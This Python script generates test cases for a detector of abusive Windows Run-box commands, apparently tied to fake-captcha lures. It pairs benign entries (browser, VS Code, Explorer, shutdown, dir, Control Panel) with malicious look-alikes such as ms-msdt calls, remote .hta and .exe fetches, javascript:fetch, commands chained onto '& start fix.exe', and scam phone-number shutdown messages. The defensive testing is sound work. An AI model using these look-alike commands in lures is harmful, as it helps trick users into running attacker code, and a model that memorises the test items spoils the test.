"""Writes tests/data/cases/b16benign.jsonl: ordinary texts of the kinds BLIND-16's benign side
showed over-read (a person's own Run-box entries, ...), each technique cleared beside the
look-alikes that try to abuse the clearing and must stay flagged or blocked.

    python tests/data/cases/make_b16benign.py

Written from general knowledge of Windows' and vendors' documented commands (no blind text
copied; the blind ids these techniques come from are listed in bench/blind/README.md, Blind-16,
"Tuned since written ... b16benign"). Invented hosts are reserved names (*.test, *.example,
*.invalid, documentation addresses), phone numbers are in 555 blocks. Each line is {id, text,
expect, technique, platform, source, target}.

Cleared here, by technique:

- `runbox-typed-browser-window`: a browser typed into the Run box with the switches that only
  choose its window or one of its own profiles, perhaps on a web page (`msedge --inprivate
  https://intranet.corp.example`, `chrome --profile-directory="Profile 2"`): the address alone
  opens the same page from any source. Typed only (resources/runbox.yaml `tools`): a page, mail
  or chat writing it for the Run box is a command there. Never --app (a window without an address
  bar), --headless, --remote-debugging-port, --load-extension, --user-data-dir, a file: address, a
  share, another scheme, or a profile named by a path.
- `runbox-typed-editor-window`: VS Code opening one folder of this computer in a new or the last
  window (`code --new-window C:\\dev\\site`); never an extension, a tunnel, a second folder of
  extensions, or a share.
- `runbox-typed-explorer-folder`: Explorer opening a folder of this computer (`explorer
  /e,C:\\Users\\Public\\Documents`, `explorer D:\\Photos`): a folder whose last name has no dot,
  so nothing a file's type could start; never a file, a share, WebDAV, or a variable that can
  name another computer.
- `runbox-typed-shutdown-message`: a restart or shutdown of this computer with the message its
  dialog shows (`shutdown /r /t 60 /c "Updates installed"`); a message with a number to call or a
  site, another computer (/m), or another command on the line stays a command.
- `runbox-typed-folder-listing`: a console kept open in a folder of this computer on the list of
  that folder's files (`cmd /k "cd /d C:\\src && dir"`); never `dir /s`, a share, `dir` first, or a
  program started after it.
- `runbox-control-library-page`: `control keymgr.dll` (Stored User Names and Passwords) and a
  Control Panel item's page by the one setting it reads (`/page ?SelectedVault=CredmanVault`):
  Windows' own pages from any source, like `rundll32 keymgr.dll,KRShowKeyMgr`; a library by any
  other name or by a path, or a page naming a path, stays a command.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b16benign.jsonl")
RUN = "run_dialog"
WIKI = "https://wiki.helpdesk-notes.example/windows/run-box"
LURE = "https://verify-human.check-session.test/captcha"

# -- the Run box: a person's own entries, typed ---------------------------------------------------

TYPED = {
    "runbox-typed-browser-window": [
        "msedge --inprivate https://intranet.corp.example",
        "msedge --inprivate https://portal.corp.example/timesheets",
        "msedge -inprivate https://hr.corp.example:8443/leave",
        "msedge --new-window https://status.corp.example",
        "msedge --profile-directory=Default https://mail.corp.example",
        'chrome --profile-directory="Profile 2"',
        'chrome --profile-directory="Profile 1" https://calendar.corp.example',
        "chrome --incognito https://www.example.com/pricing",
        "chrome --new-window https://docs.corp.example/handbook",
        "chrome.exe --incognito",
        "firefox -private-window https://wiki.corp.example",
        "firefox -new-window https://tickets.corp.example/queue/7",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --profile-directory=Work',
    ],
    "runbox-typed-editor-window": [
        "code --new-window C:\\dev\\website",
        "code -n C:\\dev\\api-server",
        "code --reuse-window D:\\src\\invoice-tool",
        "code -r %USERPROFILE%\\source\\repos\\notes",
        "code-insiders --new-window C:\\work\\prototype",
        'code --new-window "C:\\Users\\me\\Documents\\Team Notes"',
        "code.exe -n C:\\projects\\site",
        "code --reuse-window %USERPROFILE%\\.ssh\\config",
        "code -n D:\\data\\reports",
        "code-insiders -r C:\\src\\lib",
    ],
    "runbox-typed-explorer-folder": [
        "explorer.exe /e,C:\\Users\\Public\\Documents",
        "explorer /e,D:\\Photos",
        "explorer /e,%USERPROFILE%\\Downloads",
        "explorer D:\\Projects",
        "explorer %APPDATA%\\Microsoft\\Signatures",
        'explorer.exe "C:\\Users\\Public\\Shared Pictures"',
        "explorer /e,%LOCALAPPDATA%\\Temp",
        "explorer C:\\Windows\\Fonts",
        'explorer /e,"D:\\Team Share\\Quarterly"',
        "explorer.exe %PROGRAMDATA%",
    ],
    "runbox-typed-shutdown-message": [
        'shutdown /r /t 60 /c "Updates installed, restarting in 1 minute"',
        'shutdown /s /t 300 /c "Shutting down for the weekend"',
        'shutdown /r /t 0 /c "Driver update"',
        'shutdown -r -t 120 -c "Restarting to finish setup"',
        'shutdown /r /c "Planned restart (maintenance window)"',
        'shutdown /s /t 3600 /c "Office closes at 6 - save your work!"',
        'shutdown /g /t 30 /c "Restarting, apps will reopen"',
        'shutdown /h /c "Hibernating"',
        'shutdown -s -t 900 -c "Power maintenance tonight"',
        'shutdown /r /t 15 /c "Rebooting after the BIOS update"',
    ],
    "runbox-typed-folder-listing": [
        'cmd /k "cd /d C:\\Projects\\invoice-tool && dir"',
        "cmd /k cd /d C:\\src && dir",
        'cmd /k "cd /d D:\\logs && dir /od"',
        'cmd /k "cd /d %USERPROFILE%\\Downloads && dir /o-d"',
        "cmd /k pushd C:\\build\\out && dir /b",
        'cmd /k "cd /d C:\\src\\site && git status && dir /w"',
        "cmd /k cd C:\\temp & dir",
        'cmd /k "cd /d %USERPROFILE%\\Desktop && dir /a"',
        'cmd /k "chdir /d D:\\exports && dir /os"',
        'cmd /k "cd /d C:\\data && dir /p"',
    ],
}

# Look-alikes of the typed entries: each must stay a command, typed (flagged) and written by a
# page (blocked)
TYPED_LOOKALIKES = [
    "msedge --app=https://login.corp-verify.test",
    "msedge --inprivate file://files.corp-verify.test/share/fix.hta",
    "msedge --inprivate https://portal.corp.example --load-extension=C:\\Users\\Public\\ext",
    "chrome --headless --remote-debugging-port=9222 https://portal.corp.example",
    "chrome --profile-directory=..\\..\\Users\\Public\\p",
    "chrome --user-data-dir=C:\\Users\\Public\\prof https://mail.corp.example",
    "chrome https://user@portal.corp-verify.test",
    "chrome --incognito javascript:fetch('//x.test')",
    "msedge --inprivate \\\\files.corp-verify.test\\share\\fix.html",
    "firefox -private-window ms-msdt:/id PCWDiagnostic",
    "msedge --inprivate https://cdn.corp-verify.test/check.hta",
    "chrome --new-window https://cdn.corp-verify.test/setup.exe?session=1",
    "firefox -new-window https://cdn.corp-verify.test/fix.zip",
    "msedge --inprivate https://captcha.portal-check.test/",
    "chrome --new-window https://human-check.portal.test/verify",
    "code --new-window \\\\fs.corp-verify.test\\src",
    "code --install-extension C:\\Users\\Public\\helper.vsix",
    "code --new-window C:\\dev\\site --extensions-dir C:\\Users\\Public\\ext",
    "code --new-window --reuse-window C:\\dev\\site",
    "code --new-window https://repo.corp-verify.test/site",
    "explorer /e,C:\\Users\\Public\\invoice.lnk",
    "explorer C:\\Users\\Public\\fix.hta",
    "explorer \\\\files.corp-verify.test\\share",
    "explorer /root,C:\\Users\\Public",
    "explorer /e,%LOGONSERVER%\\netlogon",
    "explorer C:\\Users\\Public\\Documents\\scan.pdf.exe",
    "explorer /e,C:\\Users\\Public\\Documents C:\\x.exe",
    'shutdown /s /t 600 /c "Virus found call 555 0100"',
    'shutdown /s /t 600 /c "Call support at help-desk.corp-verify.test now"',
    'shutdown /m \\\\ws-0192 /r /c "Restart"',
    'shutdown /r /t 60 /c "Updates" /f',
    'shutdown /r /c "x" /c "y"',
    'cmd /k "cd /d C:\\Users\\Public && dir /s"',
    'cmd /k "cd /d C:\\src && dir \\\\files.corp-verify.test\\share"',
    "cmd /k dir",
    'cmd /k "dir && cd /d C:\\src"',
    'cmd /k "cd /d C:\\src && dir && start fix.exe"',
    'cmd /c "cd /d C:\\src && dir"',
    'cmd /k "cd /d \\\\files.corp-verify.test\\share && dir"',
    'cmd /k "cd /d C:\\src && dir | clip"',
]

# Windows' own pages by a name it looks up: from any source, a wiki's or a lure's
CONTROL_PAGES = [
    "control keymgr.dll",
    "control.exe keymgr.dll",
    "CONTROL KEYMGR.DLL",
    "%windir%\\system32\\control.exe keymgr.dll",
    "control /name Microsoft.CredentialManager /page ?SelectedVault=CredmanVault",
    "control /name Microsoft.CredentialManager /page ?SelectedVault=WebVault",
    "control /name Microsoft.Personalization /page pageWallpaper",
    "control.exe /name Microsoft.CredentialManager /page ?SelectedVault=CredmanVault",
    "control /name Microsoft.System /page ?Tab=Advanced",
    "C:\\Windows\\System32\\control.exe keymgr.dll",
]
CONTROL_LOOKALIKES = [
    "control C:\\Users\\Public\\keymgr.dll",
    "control keymgr.dll,Start",
    "control helper.dll",
    "control keymgr.dll extra",
    "control %TEMP%\\keymgr.dll",
    "control \\\\files.corp-verify.test\\x\\keymgr.dll",
    "control /name Microsoft.CredentialManager /page ?x=C:\\Users\\Public\\p",
    "control /name Microsoft.CredentialManager /page ?SelectedVault=\\\\files.test\\x",
    "control /name Microsoft.CredentialManager /page https://portal.corp-verify.test",
    "control keymgr.dll & start fix.exe",
]


def run_box(book: Book) -> None:
    for technique, texts in TYPED.items():
        for text in texts:
            book.add(technique, text, "not_flagged", "windows", RUN)
        # written by a page for the Run box, the same entries are commands there (issue 9)
        for text in texts[:3]:
            book.add(technique + "-lookalike", text, "malicious", "windows", RUN, LURE)
    for text in TYPED_LOOKALIKES:
        book.add("runbox-typed-lookalike", text, "flagged", "windows", RUN)
        book.add("runbox-typed-lookalike", text, "malicious", "windows", RUN, WIKI)
    for i, text in enumerate(CONTROL_PAGES):
        book.add("runbox-control-library-page", text, "not_flagged", "windows", RUN,
                 (None, WIKI, LURE)[i % 3])  # fmt: skip
    for text in CONTROL_LOOKALIKES:
        book.add("runbox-control-library-page-lookalike", text, "flagged", "windows", RUN)
        book.add("runbox-control-library-page-lookalike", text, "malicious", "windows", RUN, LURE)


def build() -> list[dict[str, str]]:
    book = Book("b16b")
    run_box(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
